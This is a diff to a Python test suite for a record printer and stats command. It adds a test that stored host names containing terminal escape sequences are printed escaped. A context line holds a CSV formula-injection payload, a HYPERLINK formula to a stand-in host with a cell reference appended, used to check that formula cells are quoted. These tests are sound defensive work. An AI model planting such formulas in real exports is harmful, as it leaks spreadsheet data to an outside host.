@@ -401,3 +401,13 @@ def test_a_csv_cell_that_is_a_formula_is_quoted() -> None:
     out = io.StringIO()
     RecordPrinter("csv", ("host", "sandbox"), out, colour=False, width=None).write([made])
     assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ['\'=hyperlink("http://x.example/"&a1,"ok")', "agents"]
+
+
+def test_stats_print_a_stored_name_escaped(server: RedisServer, store: RecordStore, now: float) -> None:
+    """A destination counted from a record stored raw (before the record's own escape) is printed escaped."""
+    made = record(now, host="x")
+    object.__setattr__(made, "host", ERASE)
+    store.write([made])
+    result = run(server, "stats", "--window", "1h", "--by", "destination")
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "rt14\\027[1A" in result.output
